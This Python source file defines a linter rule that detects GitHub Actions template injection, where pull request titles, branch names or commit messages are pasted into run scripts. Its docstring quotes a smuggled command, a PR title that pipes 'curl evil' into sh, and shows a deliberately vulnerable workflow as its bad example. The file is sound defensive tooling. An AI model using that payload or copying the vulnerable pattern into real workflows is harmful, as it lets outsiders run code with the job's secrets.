from __future__ import annotations

from collections.abc import Iterator

from gatekeeper import Finding, Fix
from gatekeeper.models.pipeline import Step
from gatekeeper.models.pipeline.expressions import Tree, found, parse
from gatekeeper.models.pipeline.ir import line_of
from gatekeeper.node import regex
from gatekeeper.rule import rule

_FREE = regex(
    r"github\.(?:head_ref"
    r"|event\.(?:issue|discussion)\.(?:title|body)"
    r"|event\.pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage)))"
    r"|event\.(?:comment|review|review_comment)\.body"
    r"|event\.pages\.(?:\*|\d+)\.page_name"
    r"|event\.(?:commits\.(?:\*|\d+)|head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
    r"|event\.workflow_run\.(?:display_title|head_branch|head_commit\.(?:message|author\.(?:email|name))|pull_requests\.(?:\*|\d+)\.head\.ref|head_repository\.description)"
    r")\Z"
)


def _text(step: Step) -> str:
    if step.run:
        return step.run
    return (
        step.node["with"]["script"].text
        if step.slug == "actions/github-script" and step.node["with"]["script"].known
        else ""
    )


def _pasted(tree: Tree) -> Iterator[str]:
    """The paths whose text can end up in the script; what is only compared or searched cannot."""
    if tree[0] == "path":
        yield tree[1]
    elif tree[0] == "opaque":
        yield from _pasted(tree[1])
    elif tree[0] == "||":
        for part in tree[1:]:
            yield from _pasted(part)
    elif tree[0] == "&&":
        yield from _pasted(tree[-1])
    elif tree[0] == "call" and tree[1] in ("format", "join", "tojson", "fromjson"):
        for argument in tree[2]:
            yield from _pasted(argument)


@rule(
    "pipeline-template-injection",
    gate="security-posture",
    severity="high",
    seed="6.1 Security Hardening",
    aliases=["CKV_GHA_2"],
    where=lambda step: "${{" in _text(step),
)
def template_injection(step: Step) -> Iterator[Finding]:
    """No script has text pasted into it that anybody may write.

    `${{ }}` is put into a script before the shell reads it: a pull request titled `"; curl evil | sh; "` becomes part
    of the program, which runs with the job's token and secrets. Titles, bodies, comments, commit messages and the names
    of branches of pull requests are such texts. Hand them over as environment variables: the shell does not parse
    those.

    Judged are the contexts that GitHub's own hardening guide lists, in `run:` and in the script of
    `actions/github-script`. Comparing such a text (`==`, `contains`) pastes only true or false.

    Bad:
    ```yaml
    on: pull_request
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          # expect: github.event.pull_request.title
          - run: echo "${{ github.event.pull_request.title }}"
          - run: |
              set -e
              # expect: github.head_ref
              git checkout ${{ github.head_ref || github.ref_name }}
    ```

    Good:
    ```yaml
    on: pull_request
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "$TITLE" ${{ github.sha }} ${{ github.event.pull_request.number }}
            env:
              TITLE: ${{ github.event.pull_request.title }}
          - run: echo ${{ contains(github.event.pull_request.title, 'WIP') }}
    ```
    """
    node = step.node["run"] if step.run else step.node["with"]["script"]
    text = _text(step)
    for start, _, inner in found(text):
        tree = parse(inner)
        named = next((path for path in _pasted(tree) if _FREE.match(path)), "") if tree else ""
        if named:
            place = line_of(node, text.count("\n", 0, start))
            fix = Fix(f'env: {{VALUE: ${{{{ {named} }}}}}}, and "$VALUE" in the script')
            yield Finding(place, f"{named} is pasted into the script: whoever writes it runs commands here", (), fix)
